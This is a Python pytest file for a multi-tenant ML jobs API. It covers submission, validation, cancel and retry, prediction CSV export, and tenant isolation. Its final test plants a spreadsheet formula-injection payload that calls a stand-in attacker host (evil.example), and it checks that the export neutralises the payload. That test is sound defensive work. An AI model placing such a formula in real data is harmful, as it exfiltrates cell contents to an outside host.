"""``/api/v1/jobs``: submission with idempotency keys, validation naming fields, filters,
detail with progress, events polled by id, cancel, retry, predictions; cross-tenant 404s.

No worker runs here: submission enqueues on commit, and these tests assert the database.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from accounts.services import api_key_create
from jobs.models import Dataset, Job, JobEvent, Prediction
from jobs.services import job_finish, job_progress
from tenancy.context import tenant_context
from tests.conftest import TenantSetup, error_of
from tests.jobs.conftest import labelled_dataset

URL = "/api/v1/jobs"


@pytest.fixture(autouse=True)
def _media_root(settings: pytest.FixtureRequest, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.fixture
def dataset(acme: TenantSetup) -> Dataset:
    return labelled_dataset(acme)


def submit(setup: TenantSetup, to: Dataset, key: str = "", **body):
    body = {"app": "finance_sentiment", "kind": "fine_tune", "dataset": to.pk,
            "params": {"epochs": 1}, **body}
    headers = {"HTTP_IDEMPOTENCY_KEY": key} if key else {}
    return setup.api().post(URL, body, format="json", **headers)


def job_state(setup: TenantSetup, job_id: int) -> Job:
    with tenant_context(setup.tenant.pk):
        return Job.objects.get(pk=job_id)


def test_submit_creates_a_queued_job_with_validated_params(
    acme: TenantSetup, dataset: Dataset
) -> None:
    response = submit(acme, dataset)
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["status"] == "queued"
    assert body["params"]["epochs"] == 1
    assert body["params"]["method"] == "auto"  # the worker picks it (jobs.method_choice)
    assert body["dataset"] == dataset.pk
    # A fine-tune counts epochs, which its worker reports once it runs.
    assert body["progress"] == {"items_done": 0, "items_total": None, "unit": "epochs",
                                "phase": "", "done": 0, "total": None, "fraction": None,
                                "rate_per_second": None, "eta_seconds": None}
    assert body["timings"]["enqueued_at"] is not None
    assert body["timings"]["duration_seconds"] is None
    job = job_state(acme, body["id"])
    assert job.created_by_id is None  # an API key is not a user
    assert job.status == Job.Status.QUEUED


def test_same_idempotency_key_and_body_returns_the_same_job(
    acme: TenantSetup, dataset: Dataset
) -> None:
    first = submit(acme, dataset, key="nightly-2024-05-01")
    again = submit(acme, dataset, key="nightly-2024-05-01")
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json()["id"] == again.json()["id"]
    conflict = submit(acme, dataset, key="nightly-2024-05-01", params={"epochs": 2})
    assert conflict.status_code == 409
    assert conflict.json()["error"]["code"] == "idempotency_conflict"
    other = submit(acme, dataset, key="nightly-2024-05-02")
    assert other.status_code == 201
    assert submit(acme, dataset).json()["id"] != submit(acme, dataset).json()["id"]
    with tenant_context(acme.tenant.pk):
        assert Job.objects.count() == 4
    too_long = submit(acme, dataset, key="k" * 201)
    assert too_long.status_code == 400
    assert "Idempotency-Key" in too_long.json()["error"]["fields"]


def test_another_tenant_may_use_the_same_idempotency_key(
    acme: TenantSetup, globex: TenantSetup, dataset: Dataset
) -> None:
    mine = submit(acme, dataset, key="shared")
    theirs = submit(globex, labelled_dataset(globex), key="shared")
    assert (mine.status_code, theirs.status_code) == (201, 201)
    assert mine.json()["id"] != theirs.json()["id"]


@pytest.mark.parametrize(("change", "field"), [
    ({"app": "astrology"}, "app"),
    ({"app": None}, "app"),
    ({"kind": "divination"}, "kind"),
    ({"params": {"epochs": 0}}, "params.epochs"),
    ({"params": {"method": "magic"}}, "params.method"),
    ({"params": ["epochs", 1]}, "params"),
    ({"dataset": "abc"}, "dataset"),
    ({"dataset": 999999}, "dataset"),
    ({"dataset": 10**30}, "dataset"),
    ({"dataset": None}, "dataset"),
    ({"model_version": 999999}, "model_version"),
])
def test_bad_submissions_are_400_naming_the_field(
    acme: TenantSetup, dataset: Dataset, change: dict, field: str
) -> None:
    response = submit(acme, dataset, **change)
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert field in error["fields"], error
    with tenant_context(acme.tenant.pk):
        assert not Job.objects.exists()


def test_a_dataset_of_the_wrong_purpose_is_refused(acme: TenantSetup) -> None:
    with tenant_context(acme.tenant.pk):
        from jobs.services import dataset_create

        texts = dataset_create(app="finance_sentiment", purpose="texts", name="t",
                               filename="t.csv", data=b"text\nup\n", created_by_id=None)
    response = submit(acme, texts)
    assert response.status_code == 400
    assert "dataset" in response.json()["error"]["fields"]
    batch = submit(acme, texts, kind="batch_inference", params={})
    assert batch.status_code == 201, batch.content


def test_malformed_bodies_use_the_error_format(acme: TenantSetup, settings) -> None:
    response = acme.api().post(URL, "{nope", content_type="application/json")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "malformed_request"
    response = acme.api().post(URL, [1, 2], format="json")
    assert response.status_code == 400
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100
    response = acme.api().post(URL, {"app": "finance_sentiment", "kind": "fine_tune",
                                     "params": {"note": "x" * 500}}, format="json")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "malformed_request"


def test_list_filters(acme: TenantSetup, dataset: Dataset) -> None:
    fine_tune = submit(acme, dataset).json()["id"]
    batch = submit(acme, dataset, kind="batch_inference", params={}).json()["id"]
    acme.api().post(f"{URL}/{batch}/cancel")

    def ids(**query: str) -> list[int]:
        response = acme.api().get(URL, query)
        assert response.status_code == 200, response.content
        return [row["id"] for row in response.json()["results"]]

    assert ids() == [batch, fine_tune]
    assert ids(kind="fine_tune") == [fine_tune]
    assert ids(status="cancelled") == [batch]
    assert ids(status="queued", kind="fine_tune", app="finance_sentiment") == [fine_tune]
    assert ids(status="running") == []
    for query, field in (({"status": "exploded"}, "status"), ({"app": "astrology"}, "app")):
        response = acme.api().get(URL, query)
        assert response.status_code == 400
        assert field in response.json()["error"]["fields"]


def test_detail_shows_progress_metrics_and_timings(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset).json()["id"]
    with tenant_context(acme.tenant.pk):
        from jobs.services import job_claim

        job_claim(job_id=job_id, worker="gpu-1")
        job_progress(job_id=job_id, items_done=3, items_total=6)
    running = acme.api().get(f"{URL}/{job_id}").json()
    assert running["status"] == "running"
    assert running["worker"] == "gpu-1"
    assert running["attempts"] == 1
    # No live view (no worker wrote one): the row's whole epochs, and no ETA.
    assert running["progress"] == {"items_done": 3, "items_total": 6, "unit": "epochs",
                                   "phase": "", "done": 3, "total": 6, "fraction": 0.5,
                                   "rate_per_second": None, "eta_seconds": None}
    with tenant_context(acme.tenant.pk):
        job_finish(job_id=job_id, status=Job.Status.SUCCEEDED,
                   metrics={"accuracy": 0.9, "macro_f1": 0.88}, accelerator_seconds=2.5)
    done = acme.api().get(f"{URL}/{job_id}").json()
    assert done["is_finished"] is True
    assert done["metrics"] == {"accuracy": 0.9, "macro_f1": 0.88}
    assert done["progress"]["fraction"] == 1.0
    assert done["timings"]["duration_seconds"] >= 0
    assert done["accelerator_seconds"] >= 2.5


def test_events_are_polled_by_id(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset).json()["id"]
    first = acme.api().get(f"{URL}/{job_id}/events").json()
    assert [event["message"] for event in first["results"]] == ["Queued"]
    assert first["job_finished"] is False
    cursor = first["next_after"]
    nothing_new = acme.api().get(f"{URL}/{job_id}/events", {"after": cursor}).json()
    assert nothing_new == {"results": [], "next_after": cursor, "job_finished": False}
    acme.api().post(f"{URL}/{job_id}/cancel")
    newer = acme.api().get(f"{URL}/{job_id}/events", {"after": cursor}).json()
    assert [event["message"] for event in newer["results"]] == ["Cancelled before it started"]
    assert newer["next_after"] > cursor
    assert newer["job_finished"] is True
    # A full page of a finished job's events is not the end yet.
    limited = acme.api().get(f"{URL}/{job_id}/events", {"limit": 1}).json()
    assert len(limited["results"]) == 1
    assert limited["job_finished"] is False
    bad = acme.api().get(f"{URL}/{job_id}/events", {"after": "yesterday"})
    assert bad.status_code == 400
    assert "after" in bad.json()["error"]["fields"]


def test_cancel_a_queued_job_then_retry_it(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset).json()["id"]
    cancelled = acme.api().post(f"{URL}/{job_id}/cancel")
    assert cancelled.status_code == 200
    assert cancelled.json()["status"] == "cancelled"
    again = acme.api().post(f"{URL}/{job_id}/cancel")
    assert again.status_code == 409
    assert again.json()["error"]["code"] == "conflict"
    retried = acme.api().post(f"{URL}/{job_id}/retry")
    assert retried.status_code == 200
    assert retried.json()["status"] == "queued"
    assert job_state(acme, job_id).status == Job.Status.QUEUED
    not_failed = acme.api().post(f"{URL}/{job_id}/retry")
    assert not_failed.status_code == 409


def test_cancel_a_running_job_asks_the_worker(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset).json()["id"]
    with tenant_context(acme.tenant.pk):
        from jobs.services import job_claim

        job_claim(job_id=job_id, worker="gpu-1")
    body = acme.api().post(f"{URL}/{job_id}/cancel").json()
    assert body["status"] == "running"
    assert body["cancel_requested"] is True


def test_retry_a_failed_job(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset).json()["id"]
    with tenant_context(acme.tenant.pk):
        job_finish(job_id=job_id, status=Job.Status.FAILED, error="CUDA out of memory")
    assert acme.api().get(f"{URL}/{job_id}").json()["error"] == "CUDA out of memory"
    body = acme.api().post(f"{URL}/{job_id}/retry").json()
    assert (body["status"], body["error"]) == ("queued", "")


def test_predictions_list_and_csv(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset, kind="batch_inference", params={}).json()["id"]
    with tenant_context(acme.tenant.pk):
        job = Job.objects.get(pk=job_id)
        Prediction.objects.bulk_create([
            Prediction(job=job, tenant_id=acme.tenant.pk, item=item, label="positive",
                       confidence=0.5 + item / 100,
                       probabilities={"negative": 0.1, "neutral": 0.2, "positive": 0.7})
            for item in range(1, 8)
        ])
    page = acme.api().get(f"{URL}/{job_id}/predictions", {"page_size": 5}).json()
    assert [row["item"] for row in page["results"]] == [1, 2, 3, 4, 5]
    rest = acme.api().get(page["next"]).json()
    assert [row["item"] for row in rest["results"]] == [6, 7]
    response = acme.api().get(f"{URL}/{job_id}/predictions.csv", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["item", "label", "confidence", "p_negative", "p_neutral", "p_positive"]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, 8)]
    assert rows[1][1:] == ["positive", "0.510000", "0.100000", "0.200000", "0.700000"]


def test_predictions_csv_is_streamed_in_chunks_under_the_tenant(
    acme: TenantSetup, dataset: Dataset, monkeypatch
) -> None:
    monkeypatch.setattr("jobs.selectors.CSV_CHUNK_ROWS", 2)
    job_id = submit(acme, dataset, kind="batch_inference", params={}).json()["id"]
    with tenant_context(acme.tenant.pk):
        job = Job.objects.get(pk=job_id)
        for item in range(1, 6):
            Prediction.objects.create(job=job, item=item, label="neutral", confidence=0.4,
                                      probabilities={"neutral": 0.4})
    response = acme.api().get(f"{URL}/{job_id}/predictions.csv")
    # The body is read after the request (and its tenant context) has finished.
    chunks = list(response.streaming_content)
    assert len(chunks) == 4  # header, then 2 + 2 + 1 rows
    assert b"".join(chunks).decode().count("\n") == 6


def test_read_only_key_cannot_submit_cancel_or_retry(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset).json()["id"]
    with tenant_context(acme.tenant.pk):
        reader = api_key_create(name="reader", scopes=["read"], created_by_id=None).raw_key
    client = acme.api(reader)
    assert client.get(f"{URL}/{job_id}").status_code == 200
    assert client.post(URL, {"app": "finance_sentiment"}, format="json").status_code == 403
    assert client.post(f"{URL}/{job_id}/cancel").status_code == 403
    assert job_state(acme, job_id).status == Job.Status.QUEUED


def test_other_tenant_cannot_see_cancel_or_retry_a_job(
    acme: TenantSetup, globex: TenantSetup, dataset: Dataset
) -> None:
    job_id = submit(acme, dataset, key="acme-key").json()["id"]
    with tenant_context(acme.tenant.pk):
        Prediction.objects.create(job_id=job_id, item=1, label="positive", confidence=0.9,
                                  probabilities={"positive": 0.9})
        events_before = JobEvent.objects.filter(job_id=job_id).count()
    intruder = globex.api()
    url = f"{URL}/{job_id}"
    assert intruder.get(URL).json()["results"] == []
    for response in (
        intruder.get(url),
        intruder.get(f"{url}/events"),
        intruder.get(f"{url}/predictions"),
        intruder.get(f"{url}/predictions.csv"),
        intruder.post(f"{url}/cancel"),
        intruder.post(f"{url}/retry"),
        intruder.patch(url, {"status": "cancelled"}, format="json"),
        intruder.delete(url),
    ):
        assert response.status_code in (404, 405), response.content
    assert error_of(intruder.get(url)) == error_of(intruder.get(f"{URL}/999999"))
    assert intruder.post(f"{url}/cancel").status_code == 404
    job = job_state(acme, job_id)
    assert (job.status, job.cancel_requested) == (Job.Status.QUEUED, False)
    with tenant_context(acme.tenant.pk):
        assert JobEvent.objects.filter(job_id=job_id).count() == events_before
    # globex's own key "acme-key" is a different key space: a new job, not acme's.
    replay = submit(globex, labelled_dataset(globex), key="acme-key")
    assert replay.status_code == 201
    assert replay.json()["id"] != job_id


def test_predictions_csv_neutralises_formula_cells(acme: TenantSetup, dataset: Dataset) -> None:
    job_id = submit(acme, dataset, kind="batch_inference", params={}).json()["id"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with tenant_context(acme.tenant.pk):
        job = Job.objects.get(pk=job_id)
        Prediction.objects.create(job=job, item=1, label=formula, confidence=0.9,
                                  probabilities={formula: 0.9})
    response = acme.api().get(f"{URL}/{job_id}/predictions.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == "'" + formula
    assert rows[1][2] == "0.900000"
